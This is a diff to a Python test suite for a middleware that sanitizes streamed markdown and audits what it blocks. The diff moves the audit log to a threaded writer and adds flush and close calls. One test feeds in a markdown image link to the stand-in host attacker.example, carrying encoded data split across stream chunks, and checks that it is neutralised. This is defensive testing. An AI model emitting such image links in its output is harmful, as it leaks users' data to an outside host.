@@ -28,12 +28,19 @@ class Stack:
 
     def __init__(self, policy: Policy | None = None, **options: object) -> None:
         self.state = State()
-        self.records: list[AuditRecord] = []
+        self._records: list[AuditRecord] = []
+        self.audit = AuditLog([self._records.append])
         self.app = RenderSafeMiddleware(
-            build(self.state), policy=policy or Policy(), audit=AuditLog([self.records.append]),
+            build(self.state), policy=policy or Policy(), audit=self.audit,
             **options,  # type: ignore[arg-type]
         )  # fmt: skip
         self.server = Server(self.app)
+
+    @property
+    def records(self) -> list[AuditRecord]:
+        """What the audit log wrote so far (its writer is a thread: wait for it)."""
+        self.audit.flush()
+        return list(self._records)
 
     def events(self, event: str) -> list[AuditRecord]:
         return [r for r in self.records if r.event == event]
@@ -173,10 +180,12 @@ def test_disconnect_seen_by_send_asgi_2_4() -> None:
     async def receive() -> Message:
         return {"type": "http.request"}
 
-    app = RenderSafeMiddleware(inner, policy=Policy(), audit=AuditLog([records.append]))
+    audit = AuditLog([records.append])
+    app = RenderSafeMiddleware(inner, policy=Policy(), audit=audit)
     scope: Scope = {"type": "http", "method": "GET", "path": "/", "headers": []}
     with pytest.raises(OSError, match="connection lost"):
         asyncio.run(app(scope, receive, send))
+    audit.close()
     assert tries == [0]  # the app stopped at the first failed send
     assert [r.event for r in records] == ["disconnect"]
 
@@ -284,8 +293,10 @@ def test_under_fastapi() -> None:
         pieces = ["Look: ![x](https://attacker", ".example/p.png?d=SGVsbG8gd29ybGQ=) ok"]
         return StreamingResponse(iter(pieces), media_type="text/markdown")
 
-    api.add_middleware(RenderSafeMiddleware, policy=Policy(), audit=AuditLog([records.append]))
+    audit = AuditLog([records.append])
+    api.add_middleware(RenderSafeMiddleware, policy=Policy(), audit=audit)
     with Server(api) as server:
         text = httpx.get(server.url + "/chat").text
+    audit.close()
     assert text == sanitize("Look: ![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=) ok")
     assert [r.construct for r in records] == ["image"]
